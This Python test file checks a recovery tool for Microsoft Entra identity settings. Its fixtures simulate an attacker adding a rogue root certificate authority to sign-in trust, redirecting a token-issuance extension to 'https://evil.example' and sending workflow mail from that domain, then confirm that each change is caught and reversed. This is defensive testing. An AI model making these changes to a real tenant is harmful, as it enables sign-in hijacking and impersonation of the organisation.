"""What sign-in trusts and asks elsewhere: damaged, put back, undone."""

from __future__ import annotations

from typing import Any

from apps.diffs.choices import Risk
from apps.diffs.models import ReportChange
from tests.recovery.test_settings_kinds import taken_back
from tests.recovery.workshop import Workshop, bad_results, changes_of

EXTENSIONS = "/identity/customAuthenticationExtensions"
ATTRIBUTES = "/identity/userFlowAttributes"
WORKFLOWS = "/identityGovernance/lifecycleWorkflows"
TASKS = f"{WORKFLOWS}/customTaskExtensions"
CLAIMS = "#microsoft.graph.onTokenIssuanceStartCustomExtension"
EVIL = {"certificate": "QW4gZXZpbCBhdXRob3JpdHk=", "isRootAuthority": True}


def plain(one: dict[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in one.items() if "@odata.context" not in name}


def authorities(workshop: Workshop) -> list[dict[str, Any]]:
    """Those that sign-in trusts, in an order of their own."""
    path = f"/organization/{workshop.entra}/certificateBasedAuthConfiguration"
    held = workshop.first(path)["certificateAuthorities"]
    return sorted(held, key=lambda one: str(one["certificate"]))


def test_an_authority_put_beside_the_others_is_told_and_put_right_once_it_is_deleted(
    workshop: Workshop,
) -> None:
    # given authorities of which one more makes certificates for anybody
    path = f"/organization/{workshop.entra}/certificateBasedAuthConfiguration"
    before, only = authorities(workshop), workshop.first(path)["id"]
    base = workshop.capture()
    workshop.graph("DELETE", f"{path}/{only}")
    names = ("certificate", "certificateRevocationListUrl", "isRootAuthority")
    own = [{name: one[name] for name in names} for one in before]
    workshop.graph("POST", path, {"certificateAuthorities": [*own, EVIL]})

    # then it is of high risk, and no plan changes it
    report = workshop.report(base)
    name = "certificateBasedAuthConfiguration"
    assert changes_of(report) == [(name, "updated", ("certificateAuthorities",))]
    assert ReportChange.objects.get(report=report).risk == Risk.HIGH
    plan = workshop.plan(report)
    assert plan.counts["requests"] == 0

    # and when somebody deleted them, they are made anew as they were
    workshop.graph("DELETE", f"{path}/{only}")
    assert bad_results(workshop.recover(base)) == []
    assert authorities(workshop) == before
    assert workshop.first(path)["id"] == only


def test_whom_sign_in_and_workflows_ask_elsewhere_is_put_back(workshop: Workshop) -> None:
    # given a service that knows people's grades, and workflows that mail in the company's name
    call, task = plain(workshop.first(EXTENSIONS)), plain(workshop.first(TASKS))
    settings = plain(workshop.graph("GET", f"{WORKFLOWS}/settings"))
    base = workshop.capture()

    # when somebody turns the calls to servers of his own, and mails in his
    there = {**call["endpointConfiguration"], "targetUrl": "https://evil.example"}
    body = {"@odata.type": CLAIMS, "endpointConfiguration": there, "description": None}
    workshop.graph("PATCH", f"{EXTENSIONS}/{call['id']}", body)
    acts = {**task["endpointConfiguration"], "logicAppWorkflowName": "Evil"}
    workshop.graph("PATCH", f"{TASKS}/{task['id']}", {"endpointConfiguration": acts})
    mail = {"senderDomain": "evil.example", "useCompanyBranding": True}
    other = {"emailSettings": mail, "workflowScheduleIntervalInHours": 1}
    workshop.graph("PATCH", f"{WORKFLOWS}/settings", other)
    report = workshop.report(base)

    # then a recovery turns all back, both settings by one request, and an undo takes that back
    risks = ReportChange.objects.filter(report=report).values_list("risk", flat=True)
    assert set(risks) == {Risk.HIGH}
    plan = workshop.plan(report)
    assert plan.counts["requests"] == 3
    run = workshop.run(plan)
    assert bad_results(run) == []
    assert plain(workshop.first(EXTENSIONS)) == call
    moved = {"lastModifiedDateTime": ""}
    assert plain(workshop.first(TASKS)) | moved == task | moved
    assert plain(workshop.graph("GET", f"{WORKFLOWS}/settings")) == settings
    taken_back(workshop, run)
    assert workshop.first(EXTENSIONS)["endpointConfiguration"] == there
    assert workshop.graph("GET", f"{WORKFLOWS}/settings")["emailSettings"] == mail


def test_what_was_deleted_of_it_is_made_anew(workshop: Workshop) -> None:
    # given calls elsewhere, of sign-in and of workflows, and an attribute of sign-up
    call, task = plain(workshop.first(EXTENSIONS)), plain(workshop.first(TASKS))
    attribute = next(
        one
        for one in workshop.graph("GET", ATTRIBUTES)["value"]
        if one["userFlowAttributeType"] == "custom"
    )
    base = workshop.capture()
    workshop.graph("DELETE", f"{EXTENSIONS}/{call['id']}")
    workshop.graph("DELETE", f"{TASKS}/{task['id']}")
    workshop.graph("DELETE", f"{ATTRIBUTES}/{attribute['id']}")

    # when they are recovered
    run = workshop.recover(base)

    # then the calls have other ids, and the attribute, whose id is made of its name, has its own
    assert bad_results(run) == []
    made = plain(workshop.first(EXTENSIONS))
    assert made["id"] != call["id"]
    assert {**made, "id": ""} == {**call, "id": ""}
    assert workshop.first(TASKS)["endpointConfiguration"] == task["endpointConfiguration"]
    assert attribute in workshop.graph("GET", ATTRIBUTES)["value"]
    assert changes_of(workshop.report(base)) == []
